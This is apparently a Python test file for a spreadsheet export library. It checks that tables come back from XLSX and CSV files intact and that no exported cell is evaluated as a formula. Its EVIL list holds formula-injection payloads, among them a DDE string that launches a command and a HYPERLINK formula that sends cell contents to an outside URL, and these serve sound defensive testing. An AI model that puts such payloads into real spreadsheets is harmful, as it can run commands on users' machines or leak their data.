"""Does a table come back from XLSX and CSV as it was, text as text and dates as dates, and is no cell evaluated?"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from workbooks import csv_file, xlsx

from duecourse.sheets.csv_files import as_csv, csv_rows
from duecourse.sheets.formulas import is_formula, marked, unmarked
from duecourse.sheets.tables import Moment, Table, held
from duecourse.sheets.workbooks import as_workbook, workbook_rows

NINE = Moment(datetime(2022, 11, 30, 17, tzinfo=UTC), "America/Los_Angeles")
EVIL = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://x/"&A1)',
    "=cmd|' /C calc'!A0",
    "\x00=1+1",
    "'=1+1",
    "''-1",
]
KEPT = [
    "00123",
    "1E5",
    "12345678901234567890",
    "TRUE",
    "#N/A",
    "2022-11-30",
    "3:30",
    "_x0041_",
    "'Ohana",
    "’s",
    'a "b", c\nd',
]
texts = st.text(st.characters(exclude_categories=()), max_size=12) | st.sampled_from(EVIL + KEPT)


def sheet_of(content: bytes, name: str | None = None) -> Any:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return book[name] if name else book.worksheets[0]


def plain_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@given(st.lists(st.tuples(texts, texts), max_size=6))
def test_any_table_of_texts_comes_back_from_both_kinds_of_files(rows: list[tuple[str, str]]) -> None:
    table = Table("Any", ("one", "two"), rows)
    wanted = [["one", "two"], *[[held(cell) for cell in row] for row in rows]]
    assert csv_rows(as_csv(table), separator=",", most_rows=10) == wanted
    read = workbook_rows(as_workbook(table), most_rows=10, most_columns=5)
    padded = [[*row, None, None][:2] for row in read]
    assert [["" if cell is None else cell for cell in row] for row in padded] == [
        row for at, row in enumerate(wanted) if at < len(padded)
    ]
    # Only what is empty may be missing at the end.
    assert not any(cell for row in wanted[len(padded) :] for cell in row)


@given(st.lists(texts, min_size=1, max_size=8))
def test_no_cell_of_either_kind_is_evaluated(cells: list[str]) -> None:
    table = Table("Any", tuple(f"c{at}" for at in range(len(cells))), [cells])
    sheet = sheet_of(as_workbook(table))
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} <= {"s"}
    for cell in plain_rows(as_csv(table))[1]:
        # What a spreadsheet that drops blanks and unseen characters would see first.
        assert cell.lstrip(" \t\r\n\ufeff\u200b\xa0\x00\ufffd")[:1] not in set("=+-@＝＋－＠") or cell[:1] == "'"
        assert cell[:1] not in ("\t", "\r", "\n")


@given(texts)
def test_the_mark_is_taken_away_from_what_was_marked_and_from_nothing_else(text: str) -> None:
    assert unmarked(marked(text)) == text
    assert not is_formula(text) or marked(text) == f"'{text}"


@pytest.mark.parametrize("text", EVIL)
def test_what_begins_like_a_formula_is_marked_in_csv_and_quoted_in_excel(text: str) -> None:
    table = Table("Evil", ("a",), [(text,)])
    assert plain_rows(as_csv(table))[1] == [f"'{held(text)}"]
    cell = sheet_of(as_workbook(table))["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_without_the_typed_cell_and_the_mark_there_would_be_formulas() -> None:
    # The control: what the libraries write by themselves.
    assert sheet_of(xlsx(("a",), ("=1+1",)))["A2"].data_type == "f"
    assert plain_rows(csv_file(("a",), ("=1+1",)))[1] == ["=1+1"]


@pytest.mark.parametrize("text", KEPT)
def test_what_looks_like_a_number_a_date_or_an_error_stays_text(text: str) -> None:
    table = Table("Kept", ("a",), [(text,)])
    assert plain_rows(as_csv(table))[1] == [text]
    cell = sheet_of(as_workbook(table))["A2"]
    assert (cell.data_type, cell.number_format) == ("s", "@")


def test_dates_are_dates_numbers_are_numbers_and_instants_name_their_zone() -> None:
    row = (date(2022, 11, 30), NINE, Moment(NINE.at), 12, -2.5, None, date(1899, 12, 31))
    table = Table("Kinds", tuple("abcdefg"), [row])
    assert plain_rows(as_csv(table))[1] == [
        "2022-11-30",
        "2022-11-30T09:00:00-08:00[America/Los_Angeles]",
        "2022-11-30T17:00:00Z",
        "12",
        "-2.5",
        "",
        "1899-12-31",
    ]
    cells = sheet_of(as_workbook(table))[2]
    assert [str(cell.value) for cell in cells[:2]] == ["2022-11-30 00:00:00", "2022-11-30 09:00:00"]
    assert cells[0].is_date and cells[1].is_date
    assert cells[1].number_format == 'yyyy-mm-dd hh:mm "Pacific"' and cells[2].number_format.endswith('"UTC"')
    assert [cell.value for cell in cells[3:6]] == [12, -2.5, None]
    # Excel has no days before March 1900 that agree with the calendar.
    assert cells[6].value == "1899-12-31"


def test_the_workbook_is_laid_out_for_reading_and_says_what_it_is() -> None:
    about = (("What", "Overdue"), ("For", "Lee Chen"), ("As of", "Wed Nov 30, 2022, 9:00 AM Pacific"))
    table = Table("Over/due: [all]", ("report", "n"), [("Monthly Enrollment Report", 1)] * 3, about)
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(table)))
    assert book.sheetnames == ["Over due   all", "About"]
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:B4"
    assert sheet["A1"].font.bold and sheet.column_dimensions["A"].width >= len("Monthly Enrollment Report")
    assert [[cell.value for cell in row] for row in book["About"].iter_rows()] == [list(pair) for pair in about]


def test_csv_begins_with_the_mark_that_makes_excel_read_utf_8() -> None:
    content = as_csv(Table("Names", ("name",), [("Núñez",), ("",)]))
    assert content == '\ufeffname\r\nNúñez\r\n""\r\n'.encode()


@pytest.mark.parametrize("character", ["x", "\N{GRINNING FACE}"])
def test_a_text_too_long_for_excel_says_so_and_the_csv_file_has_it_all(character: str) -> None:
    text = character * 40_000
    table = Table("Long", ("a",), [(text,)])
    value = sheet_of(as_workbook(table))["A2"].value
    assert len(value.encode("utf-16-le")) // 2 <= 32_767 and value.endswith("the CSV file has it all]")
    assert plain_rows(as_csv(table))[1] == [text]
